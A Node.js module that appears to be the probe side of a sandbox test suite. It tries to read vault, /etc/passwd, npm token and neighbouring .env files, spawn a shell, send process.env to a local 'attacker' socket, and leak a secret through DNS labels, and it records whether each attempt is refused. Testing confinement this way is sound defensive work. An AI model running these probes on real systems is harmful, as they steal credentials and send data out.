'use strict';

// Attempts to read what is not the application's, and to get it out.

const { spawn } = require('node:child_process');
const { Resolver } = require('node:dns').promises;
const fs = require('node:fs');
const net = require('node:net');
const { refused, succeeded } = require('../system');

const ANSWER_MS = 5000;

function readAll(files) {
  const errors = new Set();
  const read = [];
  for (const [name, file] of Object.entries(files)) {
    try {
      fs.readFileSync(file);
      read.push(name);
    } catch (error) {
      errors.add(error.code);
    }
  }
  return read.length > 0 ? succeeded(read.join(', ')) : refused([...errors].join(', '));
}

const vault = ({ vaultFile, identityFile }) => (
  readAll({ vault: vaultFile, identity: identityFile })
);
const passwd = () => readAll({ 'all accounts': '/etc/passwd' });
const npmrc = ({ npmrcFile }) => readAll({ 'the registry token': npmrcFile });
const neighbour = ({ neighbourFile }) => readAll({ 'its .env': neighbourFile });

// Not spawnSync: where waiting for a child is refused, it never returns.
function shell() {
  return new Promise((resolve) => {
    const child = spawn('/bin/sh', ['-c', 'echo uid $(id -u)']);
    const timer = setTimeout(() => resolve(refused('no answer')), ANSWER_MS);
    const finish = (outcome) => {
      clearTimeout(timer);
      resolve(outcome);
    };
    child.once('error', (error) => finish(refused(error.code)));
    child.stdout?.once('data', (data) => finish(succeeded(String(data).trim())));
  });
}

// Succeeds once the attacker's server has answered: the data has arrived.
function callOut({ attackerPort }) {
  return new Promise((resolve) => {
    const socket = net.connect(attackerPort, '127.0.0.1', () => {
      socket.write(`${JSON.stringify(process.env)}\n`);
    });
    socket.setTimeout(ANSWER_MS, () => socket.destroy(new Error('no answer')));
    socket.once('data', (data) => {
      socket.destroy();
      resolve(succeeded(String(data).trim()));
    });
    socket.once('error', (error) => resolve(refused(error.code ?? error.message)));
  });
}

// What a name server is asked for, it knows: a secret leaves as a label.
async function nameQuery({ nameServer }) {
  const resolver = new Resolver({ timeout: ANSWER_MS, tries: 1 });
  resolver.setServers([nameServer]);
  try {
    await resolver.resolve4(`${Buffer.from('secret').toString('hex')}.example`);
    return succeeded('it was answered');
  } catch (error) {
    return refused(error.code);
  }
}

module.exports = { vault, passwd, npmrc, neighbour, shell, callOut, nameQuery };
